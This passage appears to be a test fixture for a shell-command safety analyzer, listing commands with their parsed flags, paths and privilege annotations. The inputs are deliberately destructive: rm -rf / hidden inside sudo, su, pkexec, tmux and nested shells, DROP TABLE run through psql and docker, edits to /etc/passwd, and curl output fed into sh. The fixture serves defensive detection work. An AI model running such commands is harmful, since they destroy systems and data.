    psql -f x.sql ‹flag -f› ‹path x.sql›
  $ sudo -u postgres psql --command="DROP TABLE x"
    sudo -u postgres psql '--command=DROP TABLE x' ‹flag -u› ‹privileged›
    psql '--command=DROP TABLE x' ‹in sudo› ‹flag -c› ‹privileged›
    sql‹via shell› ‹in sudo, psql›
  $ sqlite3 x 'drop table y'
    sqlite3 x 'drop table y' ‹path x, drop table y›
  $ rm -rf /  # comment
    rm -rf / ‹flag -r, -f› ‹path /› ‹writes /›
  $ rm -rf "/"*
    rm -rf /* ‹flag -r, -f› ‹path /*› ‹writes /*›
  $ rm -rf /{,etc}
    rm -rf / /etc ‹flag -r, -f› ‹path /, /etc› ‹writes /, /etc›
  $ ⏎rm -rf /
    rm -rf / ‹flag -r, -f› ‹path /› ‹writes /›
  $ echo "a⏎b" | sh
    echo 'a⏎b'
    sh ‹from echo›
    a ‹in sh›
    b ‹in sh›
  $ tmux new -d 'rm -rf /'
    tmux new -d 'rm -rf /'
    rm -rf / ‹in tmux› ‹flag -r, -f› ‹path /› ‹writes /›
  $ sh -c
    sh -c ‹flag -c›
  $ echo 'sh' | sh
    echo sh
    sh ‹from echo›
    sh ‹in sh›
    ?unknown-code ‹in sh, sh›
  $ su -c 'rm -rf /' root
    su -c 'rm -rf /' root ‹flag -c› ‹privileged›
    rm -rf / ‹in su› ‹flag -r, -f› ‹path /› ‹writes /› ‹privileged›
  $ runuser -u x -- rm -rf /
    runuser -u x -- rm -rf / ‹flag -u› ‹privileged›
    rm -rf / ‹in runuser› ‹flag -r, -f› ‹path /› ‹writes /› ‹privileged›
  $ runuser -l x -c 'rm -rf /'
    runuser -l x -c 'rm -rf /' ‹flag -l› ‹privileged›
    rm -rf / ‹in runuser› ‹flag -r, -f› ‹path /› ‹writes /› ‹privileged›
  $ sudo X=1 rm -rf /
    sudo X=1 rm -rf / ‹privileged›
    rm -rf / ‹in sudo› ‹flag -r, -f› ‹path /› ‹writes /› ‹privileged›
  $ sudo -e /etc/passwd
    sudo -e /etc/passwd ‹flag -e› ‹path /etc/passwd› ‹writes /etc/passwd› ‹privileged›
  $ pkexec rm -rf /
    pkexec rm -rf / ‹privileged›
    rm -rf / ‹in pkexec› ‹flag -r, -f› ‹path /› ‹writes /› ‹privileged›
  $ time -p rm -rf /
    time -p rm -rf / ‹flag -p›
    rm -rf / ‹in time› ‹flag -r, -f› ‹path /› ‹writes /›
  $ time { rm -rf /; }
    rm -rf / ‹flag -r, -f› ‹path /› ‹writes /›
  $ git commit -am 'rm -rf /'
    git commit -am 'rm -rf /' ‹flag -a, -m› ‹path rm -rf ›
  $ git clean -xdf
    git clean -xdf ‹flag -x, -d, -f›
  $ @() { rm -rf /; }
    rm -rf / ‹flag -r, -f› ‹path /› ‹writes /›
  $ !(rm -rf /)
    rm -rf / ‹flag -r, -f› ‹path /› ‹writes /›
  $ echo !(a|b)
    echo !(a|b)
  $ exec < <(curl x); sh
    curl x
    exec ‹from curl›
    sh ‹from curl›
    ?unknown-code ‹in sh›
  $ (exec < <(curl x)); sh
    curl x
    exec ‹from curl›
    sh
  $ xargs -a x rm
    xargs -a x rm ‹flag -a› ‹path x›
    rm ‹in xargs› ‹unknown›
  $ cat x | sudo -u postgres psql -d y
    cat x ‹path x›
    sudo -u postgres psql -d y ‹flag -u› ‹from cat› ‹privileged›
    psql -d y ‹in sudo› ‹flag -d› ‹from cat› ‹privileged›
    postgres: ?unknown-code ‹via shell› ‹in sudo, psql›
  $ docker exec -i db psql -U x -c 'drop table y'
    docker exec -i db psql -U x -c 'drop table y' ‹flag -i›
    psql -U x -c 'drop table y' ‹in docker› ‹flag -U, -c›
    sql‹via shell› ‹in docker, psql›
  $ bash -c 'bash -c "rm -rf /"'
    bash -c 'bash -c "rm -rf /"' ‹flag -c›
    bash -c 'rm -rf /' ‹in bash› ‹flag -c›
    rm -rf / ‹in bash, bash› ‹flag -r, -f› ‹path /› ‹writes /›
  $ nice -n10 ionice -c 3 timeout --signal=9 10s sh -c 'rm -rf /'
    nice -n10 ionice -c 3 timeout --signal=9 10s sh -c 'rm -rf /' ‹flag -n›
    ionice -c 3 timeout --signal=9 10s sh -c 'rm -rf /' ‹in nice› ‹flag -c›
    timeout --signal=9 10s sh -c 'rm -rf /' ‹in nice, ionice› ‹flag -s›
    sh -c 'rm -rf /' ‹in nice, ionice, timeout› ‹flag -c›
    rm -rf / ‹in nice, ionice, timeout, sh› ‹flag -r, -f› ‹path /› ‹writes /›
  $ if [ -f x ]; then . x; fi
    [ -f x ] ‹flag -f›
    . x ‹path x›
  """##
